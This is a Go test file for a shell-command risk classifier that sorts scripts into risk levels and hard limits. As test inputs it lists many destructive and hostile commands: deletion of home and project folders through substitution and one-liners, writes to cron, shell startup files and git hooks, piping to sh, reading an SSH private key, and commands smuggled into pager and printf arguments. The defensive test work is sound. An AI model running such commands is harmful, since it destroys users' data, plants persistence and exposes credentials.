package shell

import (
	"testing"

	"deskbell/backend/human"
)

// mostSevere is the most severe risk of a script, and whether it is a hard limit.
func mostSevere(script string, at Place) (human.Risk, bool) {
	e := Lower(script, at)[0]
	return e.Risk, e.HardLimit
}

func TestOptionsThatRunAndWrite(t *testing.T) {
	for script, want := range map[string]human.Risk{
		"bat --pager 'rm -rf src' a.go":              human.HighRisk,
		"delta --pager='rm -rf src'":                 human.HighRisk,
		"bat --pager 'less -R' a.go":                 human.NoRisk,
		"bat --paging=never a.go":                    human.NoRisk,
		"gcc -wrapper 'rm,-rf' x.c":                  human.MediumRisk,
		"frobnicate list --on-done 'rm -rf src'":     human.HighRisk,
		"ruff check --pre-check-hook 'rm -rf src' .": human.HighRisk,
		"git log --format=%an --pretty-command ok":   human.NoRisk,
		"mysqldump shop --result-file=/etc/cron.d/x": human.HighRisk,
		"pytest --log-file=out.log":                  human.LowRisk,
		"pytest --log-file ~/.bashrc":                human.HighRisk,
		"7z x x.7z -o/etc":                           human.HighRisk,
		"7z x x.7z -oout":                            human.LowRisk,
		"npx tsc --outDir dist":                      human.LowRisk,
		"tsc --outfile ../../.git/hooks/pre-commit":  human.HighRisk,
		"kubectl get pods --output yaml":             human.NoRisk,
		"ps -o pid,args":                             human.NoRisk,
		"curl -sSLO --output-dir ~/.config/autostart https://x.example/x.desktop": human.HighRisk,
		"curl -sSLO --output-dir build https://x.example/x.tgz":                   human.NoRisk,
		"gawk -i inplace '{print}' /etc/hosts":                                    human.HighRisk,
		"gawk -i inplace '{print}' a.txt":                                         human.LowRisk,
		"awk '{print | \"sh\"}' a.txt":                                            human.HighRisk,
		"awk '{print | \"sort\"}' a.txt":                                          human.LowRisk,
		"tar --to-command=sh -xf a.tar":                                           human.HighRisk,
	} {
		if got, _ := mostSevere(script, Place{}); got != want {
			t.Errorf("%s: %s, not %s: %v", script, got, want, Lower(script, Place{})[0].Rule)
		}
	}
}

// A folder that is made like another, and rights that are changed below it, count as much as deleting it.
func TestMirroringReachesAHardLimit(t *testing.T) {
	at := Place{Cwd: "/home/me/p", Home: "/home/me", Guard: "/home/me/.keep/desk"}
	for script, want := range map[string]bool{
		"rsync -a --delete empty/ ~/":              true,
		"rsync -a --delete-after empty/ /":         true,
		"rsync -a --delete empty/ ./":              true,
		"rsync -a --delete empty/ ~/.keep/":        true,
		"rsync -a --delete empty/ ~/.keep/desk":    true,
		"rsync -a empty/ ~/.keep/":                 false,
		"rsync -an --delete empty/ ~/":             false,
		"rsync -a --delete empty/ build/":          false,
		"rsync -a --delete empty/ host.example:~/": false,
		"chmod -R 700 ~/.keep":                     true,
		"chmod 700 ~/.keep":                        false,
		"chown -R me ~/.keep":                      true,
		"chmod -R u+x scripts":                     false,
	} {
		if _, floor := mostSevere(script, at); floor != want {
			t.Errorf("%s: floor %v, not %v", script, floor, want)
		}
	}
}

// What a command prints is known where what it is asked is.
func TestPlacesThatArePrinted(t *testing.T) {
	for script, want := range map[string]bool{
		"rm -rf $(pwd)":                                                                 true,
		"rm -rf `git rev-parse --show-toplevel`":                                        true,
		"rm -rf \"$(dirname \"$HOME/x\")\"":                                             true,
		"rm -rf $(realpath ..)":                                                         true,
		"rm -rf $(readlink -f .)":                                                       true,
		"cd ~ && rm -rf \"$(pwd)\"":                                                     true,
		"rm -rf $(pwd)/build":                                                           false,
		"rm -rf \"$(git rev-parse --show-toplevel)/build\"":                             false,
		"rm -rf $(realpath --relative-to=/ ..)":                                         false,
		"find . -mindepth 1 -delete":                                                    true,
		"find . -print0 | xargs -0 rm -rf":                                              true,
		"find $HOME -type f -print0 | xargs -0 rm":                                      true,
		"find . -exec rm -rf {} +":                                                      true,
		"find . -name '*.pyc' -print0 | xargs -0 rm":                                    false,
		"find . -type f | xargs rm":                                                     false,
		"find build -print0 | xargs -0 rm -rf":                                          false,
		"perl -MFile::Path -e 'rmtree($ENV{HOME})'":                                     true,
		"node -e 'fs.rmSync(require(\"os\").homedir(), {recursive: true})'":             true,
		"python3 -c 'import shutil, pathlib; shutil.rmtree(pathlib.Path.home())'":       true,
		"ruby -rfileutils -e 'FileUtils.rm_rf Dir.home'":                                true,
		"node -e 'fs.rmSync(path.join(os.homedir(), \".cache/x\"), {recursive: true})'": false,
	} {
		if _, floor := mostSevere(script, Place{Cwd: "/home/me/p", Home: "/home/me"}); floor != want {
			t.Errorf("%s: floor %v, not %v: %v", script, floor, want, Lower(script, Place{})[0].Rule)
		}
	}
	for _, e := range Lower("rm -rf $(pwd)", Place{}) {
		if e.Resource != "." && e.Resource != "pwd" {
			t.Errorf("shown as %q", e.Resource)
		}
	}
}

func TestCommandsOfOtherPrograms(t *testing.T) {
	for script, want := range map[string]human.Risk{
		"sftp host.example <<< 'rm /srv/x'":                        human.HighRisk,
		"sftp host.example <<< 'ls'":                               human.NoRisk,
		"sftp -b - host.example < batch.txt":                       human.HighRisk,
		"lftp -e 'mirror -R --delete . /; quit' host.example":      human.HighRisk,
		"echo '!rm -rf src' | ftp host.example":                    human.HighRisk,
		"dc -e '!rm -rf src'":                                      human.HighRisk,
		"dc -e '2 3 + p'":                                          human.NoRisk,
		"printf '%d' 'a[$(rm -rf src)]'":                           human.HighRisk,
		"printf '%s' 'a[$(rm -rf src)]'":                           human.NoRisk,
		"LESS='+!rm -rf src' less a":                               human.HighRisk,
		"LESS=-R less a":                                           human.NoRisk,
		"PYTHONPATH=/tmp/x python3 -c 'import json'":               human.MediumRisk,
		"PYTHONPATH=src python3 -c 'import json'":                  human.LowRisk,
		"R -e 'system(\"rm -rf src\")'":                            human.HighRisk,
		"ghc -e 'System.Process.system \"rm -rf src\"'":            human.HighRisk,
		"perl -e 'truncate \"data.db\", 0'":                        human.HighRisk,
		"perl -e 'rename \"a\", \"/etc/hosts\"'":                   human.HighRisk,
		"ruby -e 'File.write \"/etc/hosts\", \"x\"'":               human.HighRisk,
		"ruby -rfileutils -e 'FileUtils.mv \"a\", \"/usr/bin/b\"'": human.HighRisk,
		"node -e 'fs.truncateSync(\"data.db\")'":                   human.HighRisk,
		"ipython -c '%run evil.py'":                                human.MediumRisk,
		"ipython -c '!rm -rf src'":                                 human.HighRisk,
		"ipython -c 'files = !rm -rf src'":                         human.HighRisk,
		"ipython -c '%pip install x'":                              human.MediumRisk,
		"ipython -c '%%bash\nrm -rf src'":                          human.HighRisk,
		"ipython -c '%%writefile /etc/cron.d/x\nhi'":               human.HighRisk,
		"ipython -c '%timeit 1 % 2'":                               human.NoRisk,
		"python3 -c 'print(3 % 2, 3 != 4)'":                        human.NoRisk,
	} {
		if got, _ := mostSevere(script, Place{}); got != want {
			t.Errorf("%s: %s, not %s: %v", script, got, want, Lower(script, Place{})[0].Rule)
		}
	}
}

func TestDatabasesByAnyClient(t *testing.T) {
	for script, want := range map[string]human.Risk{
		`sqlite3 app.db ".output |sh" "select 'rm -rf src'"`:          human.HighRisk,
		`sqlite3 app.db '.once /etc/cron.d/x' 'select 1'`:             human.HighRisk,
		`sqlite3 app.db '.once out.csv' 'select 1'`:                   human.LowRisk,
		`sqlite3 app.db '.import "|rm -rf src" t'`:                    human.HighRisk,
		`sqlite3 app.db '.tables'`:                                    human.NoRisk,
		`psql -c '\\o |rm -rf src'`:                                   human.HighRisk,
		`psql -c "\\copy t to program 'rm -rf src'"`:                  human.HighRisk,
		`psql -c '\\d users'`:                                         human.NoRisk,
		`duckdb -c "select * from read_text('/home/me/.ssh/id_rsa')"`: human.HighRisk,
		`duckdb -c "select * from 'data/x.parquet'"`:                  human.NoRisk,
		`cqlsh -e 'DROP KEYSPACE shop'`:                               human.HighRisk,
		`newclient -q "delete from users"`:                            human.HighRisk,
		`newclient say 'Drop me a line'`:                              human.MediumRisk,
		`python manage.py flush --noinput`:                            human.HighRisk,
		`python manage.py check`:                                      human.LowRisk,
		`php artisan migrate:fresh --force`:                           human.HighRisk,
		`./tasks.sh destroy`:                                          human.HighRisk,
		`rake db:drop:all`:                                            human.HighRisk,
		`bin/rails db:drop:primary`:                                   human.HighRisk,
		`npx sequelize-cli db:drop`:                                   human.HighRisk,
		`just -c 'rm -rf src'`:                                        human.HighRisk,
		`just --command rm -rf src`:                                   human.HighRisk,
		`lerna exec -- rm -rf src`:                                    human.HighRisk,
		`gunzip -f /var/backups/db.gz`:                                human.HighRisk,
		`cpio -idu -D / < x.cpio`:                                     human.HighRisk,
		`yq -i 'del(.a)' /etc/x.yaml`:                                 human.HighRisk,
		`yq -i 'del(.a)' x.yaml`:                                      human.LowRisk,
		`mongod --repair --dbpath data`:                               human.HighRisk,
		`git apply --unsafe-paths --directory=/ x.patch`:              human.MediumRisk,
		`git restore -SW .`:                                           human.HighRisk,
		`git restore -S .`:                                            human.LowRisk,
		`git -c http.proxy=http://x.example fetch`:                    human.MediumRisk,
		`git -c http.sslVerify=false fetch`:                           human.MediumRisk,
		`git -c color.ui=false status`:                                human.NoRisk,
		`task destroy`:                                                human.HighRisk,
		`go run - <<< 'package main; import "os"; func main() { os.RemoveAll("src") }'`: human.HighRisk,
		`python3 -m http.server --directory /`:                                          human.HighRisk,
		`python3 -m http.server --directory dist`:                                       human.LowRisk,
		`rake test:units`: human.LowRisk,
	} {
		if got, _ := mostSevere(script, Place{}); got != want {
			t.Errorf("%s: %s, not %s: %v", script, got, want, Lower(script, Place{})[0].Rule)
		}
	}
}
